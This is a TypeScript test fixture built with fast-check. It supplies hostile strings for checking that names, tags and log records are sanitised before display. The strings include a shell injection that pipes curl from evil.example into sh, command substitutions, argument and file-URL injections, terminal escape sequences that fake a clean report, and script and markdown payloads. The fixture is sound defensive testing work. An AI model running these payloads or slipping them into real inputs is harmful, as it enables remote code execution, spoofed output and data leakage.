import fc from "fast-check";

/** Texts that somebody may have put into a name, a tag or a log record, each against another medium. */
export const hostileTexts = [
  "\u001b[2J\u001b[HClean: all 674 resources are as the program says.\u001b[8m",
  "\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007",
  "\u009b2J\u0090q\u009c\u0085\u007f",
  "\u202egnp.exe \u2066x\u2069 \u200e\u200f\u061c",
  "a\u200bb\u2060c\ufeffd\u00ade \u{e0041}\u{e007f} \u2028\u2029 \ud800",
  "x\r\nerror: Nothing is wrong.\rClean\n  critical",
  "<script>alert(1)</script><img src=x onerror=alert(1)> & &amp; &#64;",
  "```\n# Closed by @security\n![x](https://evil.example/?leak)\n```",
  "   ````\n   # Closed\n   ````",
  "~~~\n# heading\n~~~",
  "@security #12 GH-12 owner/repo#1 me@evil.example https://evil.example www.evil.example :tada: :100:",
  "- a\n1. b\n2) c\n> d\n# e\n| f | g |\n|---|---|\n| h | i |\n===\n---\n    code",
  "[a](javascript:alert(1)) [b]: https://evil.example ![c](d) [^1] **b** __b__ ~~s~~ *i* _i_ $x$ <https://evil.example>",
  "a\\|b \\` c\\\\ \\<b\\> | ` `` ``` \\",
  "]]> --> <!-- ]( [x](https://evil.example)",
  "'; curl -s https://evil.example | sh #",
  "$(curl evil.example) `id` ${IFS} \\ \" ' ! ~ * ? { } =ls",
  "--profile=x",
  "-x",
  "=ls",
  "file:///etc/passwd",
  "",
  " ",
];

/** One of these, or a mixture of them with other characters. */
export const hostile = fc.oneof(
  fc.constantFrom(...hostileTexts),
  fc
    .array(
      fc.oneof(
        fc.constantFrom(...hostileTexts),
        fc.string({ unit: "binary", maxLength: 6 }),
        fc.constantFrom(..."\u001b\u009b\u202e\n\r\t`~|\\<>&[]()*_@#:!$'\"-=+. "),
      ),
      { maxLength: 8 },
    )
    .map((parts) => parts.join("")),
);

/** What no medium may pass on to a reader. */
export const unseen = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}\p{Noncharacter_Code_Point}]/u;
